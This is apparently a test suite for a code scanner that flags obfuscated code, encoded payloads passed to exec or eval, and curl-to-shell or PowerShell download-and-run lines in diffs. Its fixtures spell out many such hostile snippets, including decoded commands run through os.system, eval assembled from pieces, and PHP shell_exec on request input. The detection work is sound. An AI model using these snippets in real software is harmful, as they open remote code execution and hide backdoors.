import { describe, expect, it } from 'vitest';
import { MINIFIED_LINE_LENGTH, addsMinifiedLine, isScannableSourcePath, scanAddedCode } from '../../../src/ecosystems/code/obfuscation.js';
import { findPipeToShell } from '../../../src/ecosystems/shell/pipe-to-shell.js';

describe('added code scanning', () => {
  it('finds decode-and-run and long encoded blobs handed to sinks, with new-file line numbers', () => {
    const patch = `@@ -10,3 +10,5 @@ function x() {\n context\n-removed\n+const ok = 1;\n+exec(base64.b64decode("aW1wb3J0IG9z"))\n context`;
    expect(scanAddedCode('tools/x.py', patch).map((f) => [f.id, f.line])).toEqual([['obfuscated-code', 12]]);
    const hex = `@@ -1,0 +1,1 @@\n+const p = Buffer.from("${'ab'.repeat(120)}", "hex");`;
    expect(scanAddedCode('src/a.ts', hex).map((f) => f.id)).toEqual(['obfuscated-code']);
  });

  it('a blob counts only with a decoder or code sink within reach of it: a bundle that decodes its inlined module with its own code far from any such call is not a payload', () => {
    const wasm = `AGFzbQEAAAAB${'f39/fwF/YAN/f38Bf2AC'.repeat(12)}`;
    const filler = 'function pad(a){return"number"==typeof a?a:parseFloat(a)}'.repeat(8);
    // The bundle's own base64 reader, the blob, then a regular expression's exec and fromCharCode far away.
    const bundle = `@@ -0,0 +1 @@\n+var Q=function(A){for(let I=0,C=0;I<A.length;I+=4,C+=3)g=JA(A.charCodeAt(I))<<18}("${wasm}");${filler}const I=/\\[object ([^\\]]+)\\]/.exec(toString.call(A));${filler}const K=String.fromCharCode(Q+1);`;
    const obfuscated = (path: string, patch: string) => scanAddedCode(path, patch).filter((f) => f.id === 'obfuscated-code').map((f) => f.id);
    expect(obfuscated('internal/encode/testdata/player.js', bundle)).toEqual([]);
    // The same blob handed to a decoder or run: near the call, before or after it.
    expect(obfuscated('internal/encode/testdata/player.js', `@@ -0,0 +1 @@\n+${filler}const m=Buffer.from("${wasm}","base64");${filler}`)).toEqual(['obfuscated-code']);
    expect(obfuscated('src/init.js', `@@ -0,0 +1 @@\n+${filler}const p="${wasm}";${'x=1;'.repeat(20)}eval(dec(p));${filler}`)).toEqual(['obfuscated-code']);
  });

  it('leaves ordinary code and removed lines alone', () => {
    const patch = `@@ -1,2 +1,2 @@\n-eval(atob("aGVsbG8="))\n+const data = JSON.parse(text);\n+${'const a = 1; '.repeat(10)}`;
    expect(scanAddedCode('src/a.js', patch)).toEqual([]);
  });

  it('only scans source files outside generated folders', () => {
    expect(['src/a.ts', 'lib/b.py', 'scripts/c.sh'].every(isScannableSourcePath)).toBe(true);
    expect(['dist/a.js', 'vendor/b.php', 'public/app.min.js', 'README.md', 'node_modules/x/index.js'].some(isScannableSourcePath)).toBe(false);
  });

  it('finds download-and-run shell pipelines', () => {
    expect(findPipeToShell('curl -fsSL https://x.sh | bash\nwget -O- https://y | sudo -E sh\nbash <(curl -s https://z)\nsh -c "$(curl -fsSL https://w)"\ncurl https://api | jq .')).toEqual([
      'curl -fsSL https://x.sh | bash',
      'wget -O- https://y | sudo -E sh',
      'bash <(curl -s https://z)',
      'sh -c "$(curl -fsSL https://w)',
    ]);
  });
});

describe('text encoded twice, decoded', () => {
  const found = (path: string, lines: string[]) => scanAddedCode(path, `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}`).filter((f) => f.id === 'obfuscated-code').map((f) => `${f.severity}:${f.line}`);

  it('reports a decoder given another decoder\'s result: high when it or the next lines run code, however the runner is named, medium otherwise', () => {
    expect(found('src/index.js', ["eval(Buffer.from(Buffer.from(s, 'base64').toString(), 'hex').toString());"])).toEqual(['high:1']);
    expect(found('src/index.ts', ["const p = Buffer.from(Buffer.from(cfg.v, 'base64').toString(), 'hex').toString();", "globalThis['ev' + 'al'](p);"])).toEqual(['high:1']);
    expect(found('test/helpers.js', ['const p = atob(atob(cfg.payload));', "require('vm').runInThisContext(p);"])).toEqual(['high:1']);
    expect(found('src/index.ts', ['const p = atob(atob(s));', 'import(`data:text/javascript,${p}`);'])).toEqual(['high:1']);
    expect(found('pkg/_init.py', ['_c = base64.b64decode(base64.b64decode(_CFG["v"]))', '', 'exec(_c)'])).toEqual(['high:1']);
    expect(found('src/Support/helpers.php', ['$p = base64_decode(base64_decode($cfg));'])).toEqual(['medium:1']);
    expect(found('src/config.ts', ["export const value = Buffer.from(Buffer.from(raw, 'base64').toString(), 'base64');"])).toEqual(['medium:1']);
  });

  it('leaves one decode, a decompression of a decode, a copy of a buffer and a JWT payload alone', () => {
    expect(found('pkg/data.py', ['TABLE = zlib.decompress(base64.b64decode(_PACKED))'])).toEqual([]);
    expect(found('src/copy.ts', ["const copy = Buffer.from(Buffer.from(bytes));", "const bin = Buffer.from(atob(s), 'binary');"])).toEqual([]);
    expect(found('src/jwt.ts', ["const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString());"])).toEqual([]);
    expect(found('src/img.ts', ["const png = Buffer.from(dataUrl.split(',')[1], 'base64');"])).toEqual([]);
  });
});

describe('obfuscated-code: a code-execution, process-module or command name put together from pieces (2026-12-01)', () => {
  const found = (path: string, lines: string[], test = false) =>
    scanAddedCode(path, `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}`, undefined, { test })
      .filter((f) => f.id === 'obfuscated-code')
      .map((f) => `${f.severity}:${f.line}`);

  it('reports the name called, looked up and called, or a command handed to a process, high (JavaScript, Python, PHP)', () => {
    expect(found('src/util/run.js', ["globalThis['ev' + 'al'](payload);"])).toEqual(['high:1']);
    expect(found('src/util/run.js', ["cp[['ex', 'ec', 'Sync'].join('')]('id');"])).toEqual(['high:1']);
    expect(found('src/util/run.js', ['require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).execSync(cmd);'])).toEqual(['high:1']);
    expect(found('src/util/run.js', ["execSync('cu' + 'rl -s https://x.example/p.sh | sh');"])).toEqual(['high:1']);
    expect(found('pkg/util.py', ["getattr(__builtins__, 'ev' + 'al')(payload)"])).toEqual(['high:1']);
    expect(found('pkg/util.py', ["__import__('o' + 's').system('id')"])).toEqual(['high:1']);
    expect(found('pkg/util.py', ['getattr(__builtins__, chr(101)+chr(118)+chr(97)+chr(108))(p)'])).toEqual(['high:1']);
    expect(found('setup.py', ["importlib.import_module('sub' + 'process').run(['curl', URL])"])).toEqual(['high:1']);
    expect(found('src/Util.php', ["$out = ('sys' . 'tem')($_GET['c']);"])).toEqual(['high:1']);
  });

  it('is medium for a module loaded or a name only looked up, high when a later line runs one; a step lower in tests', () => {
    expect(found('src/util/run.js', ["const cp = require(['child', 'process'].join('_'));"])).toEqual(['medium:1']);
    expect(found('pkg/util.py', ["f = getattr(builtins, ''.join(['ev', 'al']))"])).toEqual(['medium:1']);
    expect(found('src/util/run.js', ["const cp = require('child_' + 'process');", "cp[['ex', 'ec'].join('')]('id');"])).toEqual(['high:2']);
    expect(found('test/run.test.js', ["globalThis['ev' + 'al'](payload);"], true)).toEqual(['medium:1']);
  });

  it('follows a name assigned the pieces to a later line of the hunk that uses it (JavaScript, Python)', () => {
    expect(found('lib/util.js', ["const m = 'child_' + 'process';", 'function run(c) {', '  return require(m).execSync(c).toString();', '}'])).toEqual(['high:3']);
    expect(found('pkg/helpers.py', ['def apply(code):', "    n = 'ev' + 'al'", '    return getattr(builtins, n)(code)'])).toEqual(['high:3']);
    expect(found('src/run.js', ["const k = ['ev', 'al'].join('');", 'export const go = (p) => globalThis[k](p);'])).toEqual(['high:2']);
    expect(found('src/run.js', ["const m = 'child_' + 'process';", 'const cp = require(m);'])).toEqual(['medium:2']);
  });

  it("follows a PHP variable given a process or code function's name, in pieces or whole, to its call (a variable function, call_user_func)", () => {
    expect(found('src/Util.php', ['<?php', 'function run($cmd) {', "  $f = 'sys' . 'tem';", '  return $f($cmd);', '}'])).toEqual(['high:4']);
    expect(found('src/Util.php', ['<?php', 'function run($cmd) {', '  $f = "exec";', '  $f($cmd, $out);', '  return $out;', '}'])).toEqual(['high:4']);
    expect(found('wp-content/plugins/seo/cache.php', ["$h = 'shell_exec';", '$r = call_user_func($h, $_POST["q"]);'])).toEqual(['high:2']);
    const [finding] = scanAddedCode('src/Util.php', '@@ -0,0 +1,2 @@\n+$f = "passthru";\n+$f($c);').filter((f) => f.id === 'obfuscated-code');
    expect(finding?.title).toEqual('A code-execution name is called through a variable ($f: passthru)');
  });

  it('is quiet for a PHP variable holding another function, one only compared, and a method named through a variable', () => {
    expect(found('src/Util.php', ["$f = 'strtoupper';", '$out = $f($in);', "$cb = 'trim';", 'return array_map($cb, $rows);'])).toEqual([]);
    expect(found('src/Admin.php', ["$mode = 'system';", "if ($mode === 'system') { $label = ucfirst($mode); }"])).toEqual([]);
    expect(found('src/Db.php', ["$method = 'exec';", '$count = $this->pdo->$method($sql);', '$rows = self::$method($sql);'])).toEqual([]);
    expect(found('src/Shell.php', ['$cmd = "exec";', 'echo "running $cmd";'])).toEqual([]);
  });

  it('is quiet for a held name only compared or printed, another hunk, a harmless text, and a module the file loaded by its plain name (a bundler kept from following it)', () => {
    expect(found('src/lint.js', ["const n = 'ev' + 'al';", 'report(n);', "console.log('banned: ' + n);", 'if (BANNED.includes(n)) warn(n);'])).toEqual([]);
    expect(found('src/a.js', ["const prefix = 'child_' + 'x';", 'const mod = require(prefix);'])).toEqual([]);
    const otherHunk = scanAddedCode('src/run.js', "@@ -0,0 +1,1 @@\n+const k = 'ev' + 'al';\n@@ -10,0 +11,1 @@\n+globalThis[k](p);").filter((f) => f.id === 'obfuscated-code');
    expect(otherHunk).toEqual([]);
    const respelled = scanAddedCode('lib/workers.js', "@@ -1,2 +1,3 @@\n-var cp = require('child_process');\n+var name = 'child_' + 'process';\n+var cp = require(name);\n context").filter((f) => f.id === 'obfuscated-code');
    expect(respelled).toEqual([]);
  });

  it("is quiet for the same words split in a list or a pattern (a scanner's own terms), ordinary joins, a comment, a string", () => {
    expect(found('src/scanner/terms.js', ["const DYNAMIC_TERMS = ['ev' + 'al', 'ex' + 'ec', 'Funct' + 'ion'];"])).toEqual([]);
    expect(found('src/scanner/rules.py', ["dangerous_func = 'ev' + 'al'"])).toEqual([]);
    expect(found('src/scanner/match.js', ["const r = computeRegexMatches('ev' + 'al', 'ev' + 'al(x)');"])).toEqual([]);
    expect(found('src/ui.js', ["const cls = 'btn' + '-primary';", "const key = ['ab', 'cd'].join('');", "const mod = require('./' + 'lib');"])).toEqual([]);
    expect(found('src/util/run.js', ["exec('curl ' + url);", "const s = \"const fn = this['ev' + 'al']; fn('x');\";"])).toEqual([]);
    expect(found('src/util/run.js', ["// globalThis['ev' + 'al'](payload) is what the scanner catches", " * globalThis['ev' + 'al'](payload)"])).toEqual([]);
    // A module the file loaded by its plain name, spelled in pieces to keep a bundler from following it (bcoin's workers for browserify).
    const respelled = scanAddedCode('lib/workers.js', "@@ -1,2 +1,2 @@\n-var cp = require('child_process');\n+    cp = require('child_' + 'process');\n context").filter((f) => f.id === 'obfuscated-code');
    expect(respelled).toEqual([]);
  });
});

describe("obfuscated-code: Python's exec or eval reached through the builtins namespace, or a marshalled code object run (2026-12-01)", () => {
  const found = (path: string, lines: string[], test = false) =>
    scanAddedCode(path, `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}`, undefined, { test })
      .filter((f) => f.id === 'obfuscated-code')
      .map((f) => `${f.severity}:${f.line}`);

  it('reports exec or eval looked up by its whole name in the builtins namespace and called, high', () => {
    expect(found('pkg/core/loader.py', ['import builtins', 'getattr(builtins, "exec")(payload)'])).toEqual(['high:2']);
    expect(found('pkg/core/loader.py', ['__import__("builtins").__dict__["exec"](payload)'])).toEqual(['high:1']);
    expect(found('pkg/core/loader.py', ['globals()["__builtins__"]["exec"](payload)'])).toEqual(['high:1']);
    expect(found('pkg/core/loader.py', ['vars(__builtins__)["eval"](expr)'])).toEqual(['high:1']);
    expect(found('pkg/core/loader.py', ['sys.modules["builtins"].eval(expr)'])).toEqual(['high:1']);
    expect(found('pkg/core/loader.py', ["importlib.import_module('builtins').exec(src)"])).toEqual(['high:1']);
    // Looked up into a name, then called on a later line of the hunk.
    expect(found('pkg/core/loader.py', ['import builtins', 'run = getattr(builtins, "exec")', 'run(payload)'])).toEqual(['high:3']);
    // A code object read back from marshal and made a function: compiled code with no source.
    expect(found('pkg/core/loader.py', ['import marshal, types', 'f = types.FunctionType(marshal.loads(blob), globals())', 'f()'])).toEqual(['high:2']);
    // A test file's one step lower.
    expect(found('tests/test_loader.py', ['getattr(builtins, "exec")(payload)'], true)).toEqual(['medium:1']);
  });

  it("leaves the builtins namespace alone when no exec or eval is taken from it and called: a sandbox's empty builtins, an import hook, other builtins, a mock", () => {
    expect(found('pkg/core/sandbox.py', ['exec(code, {"__builtins__": {}}, scope)'])).toEqual([]);
    expect(found('pkg/core/hooks.py', ['import builtins', '_real_import = builtins.__import__', 'builtins.__import__ = _hook'])).toEqual([]);
    expect(found('pkg/core/out.py', ['import builtins', 'write = getattr(builtins, "print")', 'write("x")'])).toEqual([]);
    expect(found('pkg/core/check.py', ['with mock.patch("builtins.exec") as m:', '    run()', 'if "eval" in dir(builtins):', '    pass'])).toEqual([]);
    // The name taken but not called (compared, kept for a wrapper) calls nothing here.
    expect(found('pkg/core/wrap.py', ['import builtins', 'orig = getattr(builtins, "exec")', 'assert orig is not None'])).toEqual([]);
    // six's compatibility shim: the same name defined for Python 2 beside it.
    expect(found('pkg/_vendor/six.py', ['if PY3:', '    import builtins', '    exec_ = getattr(builtins, "exec")', 'else:', '    def exec_(_code_, _globs_=None, _locs_=None):', '        pass', '    exec_("""def reraise(tp, value, tb=None): raise tp, value, tb""")'])).toEqual([]);
    // A comment that shows the trick runs nothing.
    expect(found('pkg/core/notes.py', ['# getattr(builtins, "exec")(payload) is how droppers hide exec'])).toEqual([]);
  });
});

describe('obfuscator output: javascript-obfuscator names', () => {
  const added = (...l: string[]) => `@@ -1,0 +1,${l.length} @@\n${l.map((x) => `+${x}`).join('\n')}`;
  it('reports code written in `_0x…` names (the chalk and debug payloads of September 2025), on one line or spread over several', () => {
    const oneLine = "const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f,_0x66ea25=_0x13c8b9();while(!![]){try{if(_0x15b386(0x46c)===_0x35f660)break;}catch(_0x505a80){_0x66ea25['push'](_0x66ea25['shift']());}}}(_0x524b,0xb5b2c));";
    expect(scanAddedCode('index.js', added(oneLine)).map((f) => [f.id, f.severity, f.line])).toEqual([['obfuscated-code', 'high', 1]]);
    expect(scanAddedCode('src/util.ts', added('function _0x4a1b() {', '  const _0x2d8f05 = [];', '  const _0x4b81bb = 0x1b3;', '  return _0x5e2a(_0x2d8f05, _0x4b81bb);', '}')).map((f) => [f.id, f.line])).toEqual([['obfuscated-code', 4]]);
  });
  it('leaves hex constants, a name or two with _0x inside and fewer than four such names alone', () => {
    expect(scanAddedCode('src/crc32.ts', added('const TABLE = [0x00000000, 0x77073096, 0xee0e612c, 0x990951ba, 0x076dc419, 0x706af48f];', 'const MASK_0xFF = 0xff, sub_0x401000 = 0, addr_0x7fff = 1;'))).toEqual([]);
    expect(scanAddedCode('src/emu.ts', added('const _0x1000 = 1, _0x2000 = 2, _0x3000 = 3;'))).toEqual([]);
  });
});

describe('obfuscator output: a string table written in hex escapes', () => {
  const added = (...l: string[]) => `@@ -1,0 +1,${l.length} @@\n${l.map((x) => `+${x}`).join('\n')}`;
  it('reports three or more strings of plain text written wholly as hex escapes (javascriptobfuscator.com\'s `var _$_1e42=["\\x65…"]`)', () => {
    const table = 'var _$_1e42=["\\x65\\x74\\x68\\x65\\x72\\x65\\x75\\x6d","\\x72\\x65\\x71\\x75\\x65\\x73\\x74","\\x73\\x65\\x6e\\x64\\x54\\x72\\x61\\x6e\\x73"];';
    expect(scanAddedCode('index.js', added("'use strict';", table)).map((f) => [f.id, f.severity, f.line, f.title])).toEqual([['obfuscated-code', 'high', 2, 'Obfuscator output in a source file (strings written as hex escapes)']]);
    expect(scanAddedCode('lib/x.py', added("A = '\\u0065\\u0076\\u0061\\u006c'", "B = '\\x6f\\x73\\x2e\\x73\\x79\\x73'", "C = '\\x63\\x75\\x72\\x6c\\x20'")).map((f) => f.id)).toEqual(['obfuscated-code']);
  });
  it('leaves byte tables, an escape or two, and a test of an escape parser alone', () => {
    expect(scanAddedCode('src/png.ts', added("const MAGIC = '\\x89\\x50\\x4e\\x47', ZIP = '\\x50\\x4b\\x03\\x04', GZ = '\\x1f\\x8b\\x08\\x00';"))).toEqual([]);
    expect(scanAddedCode('src/ansi.ts', added("const RESET = '\\x1b[0m', BOLD = '\\x1b[1m';", "const A = '\\x41\\x42', B = '\\x43\\x44\\x45';"))).toEqual([]);
    expect(scanAddedCode('test/unescape.test.ts', added("expect(unescape('\\x68\\x65\\x6c\\x6c\\x6f')).toBe('hello');", "expect(unescape('\\x77\\x6f\\x72\\x6c\\x64')).toBe('world');", "expect(unescape('\\x66\\x6f\\x6f\\x21')).toBe('foo!');"))).toEqual([]);
  });
});

describe("PowerShell's download and run (Windows' curl | sh)", () => {
  it('reads a download piped into Invoke-Expression and Invoke-Expression of a download, in any case', () => {
    expect(findPipeToShell('irm https://get.example.dev/install.ps1 | iex')).toEqual(['irm https://get.example.dev/install.ps1 | iex']);
    expect(findPipeToShell('iwr -useb https://x.example/a.ps1 | Invoke-Expression')).toEqual(['iwr -useb https://x.example/a.ps1 | Invoke-Expression']);
    expect(findPipeToShell("IEX (New-Object Net.WebClient).DownloadString('http://45.77.12.9/a.ps1')")).toHaveLength(1);
    expect(findPipeToShell("iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")).toHaveLength(1);
    expect(findPipeToShell('Invoke-Expression (Invoke-RestMethod https://x.example/p.ps1)')).toHaveLength(1);
    expect(findPipeToShell("(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex")).toHaveLength(1);
  });
  it('leaves a download saved to a file, Invoke-Expression of local text and Elixir\'s iex alone', () => {
    expect(findPipeToShell('Invoke-WebRequest -Uri $url -OutFile tool.zip; Expand-Archive tool.zip -DestinationPath bin')).toEqual([]);
    expect(findPipeToShell('iex (Get-Content .\\env.ps1 -Raw)')).toEqual([]);
    expect(findPipeToShell('iex -S mix phx.server')).toEqual([]);
    expect(findPipeToShell('$r = irm https://api.example.com/v1/status | ConvertTo-Json')).toEqual([]);
  });
});

describe('addsMinifiedLine', () => {
  it('says whether a diff adds a line over the minified length (what makes the pipeline read the file for its header)', () => {
    const long = 'x'.repeat(MINIFIED_LINE_LENGTH + 1);
    expect(addsMinifiedLine(['@@ -3,3 +3,3 @@', ' a', `+${long}`, ' b'].join('\n'))).toBe(true);
    expect(addsMinifiedLine(['@@ -3,3 +3,3 @@', ' a', `-${long}`, `+${'x'.repeat(MINIFIED_LINE_LENGTH)}`].join('\n'))).toBe(false);
    expect(addsMinifiedLine(`@@ -1 +1 @@\n ${long}`)).toBe(false);
    expect(addsMinifiedLine(`+${long}`)).toBe(true);
  });
});

describe('minified-source: a TypeScript type of string literals is no code', () => {
  const minified = (path: string, line: string) => scanAddedCode(path, ['@@ -1,0 +1,2 @@', '+// prettier-ignore', `+${line}`].join('\n')).filter((f) => f.id === 'minified-source').map((f) => f.line);
  const mimes = Array.from({ length: 120 }, (_, i) => `'application/vnd.acme-type-${i}+json'`);
  it('does not report a long type alias of string literals joined by |, type names among them', () => {
    expect(minified('src/types/_mimes.ts', `export type MimeType = ${mimes.join('|')};`)).toEqual([]);
    expect(minified('src/types/_headers.ts', `type HeaderName = ${mimes.map((m) => m.replaceAll("'", '"')).join(' | ')} | AnyString`)).toEqual([]);
  });
  it('reports the same line as a value, in a JavaScript file, or with a call, a template or an escape in it', () => {
    expect(minified('src/types/_mimes.ts', `export const mimeTypes = ${mimes.join('|')};`)).toEqual([2]);
    expect(minified('src/types/_mimes.js', `export type MimeType = ${mimes.join('|')};`)).toEqual([2]);
    expect(minified('src/types/_mimes.ts', `export type MimeType = ${mimes.join('|')}|ReturnType<typeof run>;`)).toEqual([2]);
    expect(minified('src/types/_mimes.ts', `export type MimeType = ${mimes.join('|')}|\`\${string}\`;`)).toEqual([2]);
    expect(minified('src/types/_mimes.ts', `export type MimeType = ${mimes.join('|')}|'\\x65val';`)).toEqual([2]);
  });
});

describe('minified-source: a long comment is prose, not minified code', () => {
  const minified = (path: string, lines: readonly string[]) =>
    scanAddedCode(path, [`@@ -1,0 +1,${lines.length} @@`, ...lines].join('\n')).filter((f) => f.id === 'minified-source').map((f) => `${f.line}`);
  const prose = 'Runtime iterates with for...in, so inherited enumerable keys count as unrecognized; a declared key cannot reach here. '.repeat(10);
  const blob = `!function(e,t){${'var a=e[0]+t[1];'.repeat(80)}}(window,document);`;

  it('leaves a whole-line comment alone: //, # in Python, a one-line block comment, * lines of a block the hunk opened', () => {
    expect(minified('packages/core/src/compile.ts', [`+    // ${prose}`])).toEqual([]);
    expect(minified('lib/compile.py', [`+    # ${prose}`])).toEqual([]);
    expect(minified('src/a.js', [`+/* ${prose} */`])).toEqual([]);
    expect(minified('src/a.js', ['+/**', `+ * ${prose}`, '+ */'])).toEqual([]);
    // The opening line is context of the hunk.
    expect(scanAddedCode('src/a.js', ['@@ -1,2 +1,3 @@', ' /**', `+ * ${prose}`, '  */'].join('\n')).filter((f) => f.id === 'minified-source')).toEqual([]);
  });

  it('leaves a long paragraph of prose alone, a doc comment written without leading * whose opening is above the hunk (ky options.ts)', () => {
    const paragraph =
      '\tIf the response provides an HTTP status contained in `afterStatusCodes`, Ky will wait until the date, delay, or timestamp given in the [`Retry-After`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Retry-After) header has passed to retry the request. If `Retry-After` is missing, the non-standard [`RateLimit-Reset`](https://www.ietf.org/archive/id/draft-polli-ratelimit-headers-05.html#section-3.3) header is used in its place as a fallback. ' +
      'If the provided status code is not in the list, the header will be ignored, and the retry waits for the delay its own options compute, which grows with each attempt unless a limit says otherwise. '.repeat(4);
    expect(scanAddedCode('source/types/options.ts', ['@@ -174,3 +174,3 @@', ' ', `-${paragraph.replace('delay', 'timeout')}`, `+${paragraph}`, ' '].join('\n')).filter((f) => f.id === 'minified-source')).toEqual([]);
  });

  it('still reports long code that is not prose: spaced code, prose words around minified code', () => {
    const spaced = 'const total = first + second - third * fourth / fifth ; '.repeat(30);
    expect(minified('src/a.js', [`+${spaced}`])).toEqual(['1']);
    const mixed = `${'This module is fast and small and it works in every browser we know of today. '.repeat(12)}${blob}`;
    expect(minified('src/a.js', [`+${mixed}`])).toEqual(['1']);
  });

  it('still reports long code: after a comment on the same line, a * line with no opening in the hunk, # outside hash-comment languages, a comment that ends before code', () => {
    expect(minified('src/a.js', [`+/*! lib v1 | MIT */${blob}`])).toEqual(['1']);
    expect(minified('src/a.js', [`+${blob} // built`])).toEqual(['1']);
    expect(minified('src/a.js', [`+*${blob}`])).toEqual(['1']);
    expect(minified('src/a.js', ['+/**', '+ * x', '+ */', `+*${blob}`])).toEqual(['4']);
    expect(minified('src/a.js', [`+#${blob}`])).toEqual(['1']);
    expect(minified('src/a.js', [`+    ${blob}`])).toEqual(['1']);
    // A new hunk does not inherit the last hunk's open comment.
    expect(scanAddedCode('src/a.js', ['@@ -1,0 +1,1 @@', '+/**', '@@ -9,0 +10,1 @@', `+ *${blob}`].join('\n')).filter((f) => f.id === 'minified-source').map((f) => f.line)).toEqual([10]);
  });
});

describe('obfuscated-code: decoded text handed to a process or an interpreter', () => {
  const one = (path: string, line: string) => scanAddedCode(path, `@@ -1,0 +1,1 @@\n+${line}`).map((f) => `${f.id}:${f.severity}`);

  it('reports a decoder written as the command of a process call or the program of an interpreter (-c, -e)', () => {
    expect(one('tinted/__init__.py', "subprocess.Popen([sys.executable, '-c', base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ==').decode()], stdout=subprocess.DEVNULL)")).toEqual(['obfuscated-code:high']);
    expect(one('pkg/util.py', 'os.system(base64.b64decode(PAYLOAD).decode())')).toEqual(['obfuscated-code:high']);
    expect(one('lib/boot.js', "execSync(Buffer.from(p, 'base64').toString());")).toEqual(['obfuscated-code:high']);
    expect(one('lib/boot.js', "spawn('node', ['-e', atob(blob)], { detached: true, stdio: 'ignore' }).unref();")).toEqual(['obfuscated-code:high']);
    expect(one('src/Boot.php', 'shell_exec(base64_decode($p));')).toEqual(['obfuscated-code:high']);
    expect(one('lib/boot.rb', 'system(Base64.decode64(cmd))')).toEqual(['obfuscated-code:high']);
  });

  it('is quiet on a process given plain arguments, a buffer copied without an encoding, and a decoded key kept as data', () => {
    expect(one('pkg/util.py', "subprocess.run(['openssl', 'enc', '-d', '-in', path], check=True)")).toEqual([]);
    expect(one('lib/boot.js', 'execSync(Buffer.from(cmd).toString());')).toEqual([]);
    expect(one('pkg/util.py', "key = base64.b64decode(os.environ['SIGNING_KEY'])")).toEqual([]);
    expect(one('lib/boot.js', "spawn('node', ['-e', script]);")).toEqual([]);
  });
});
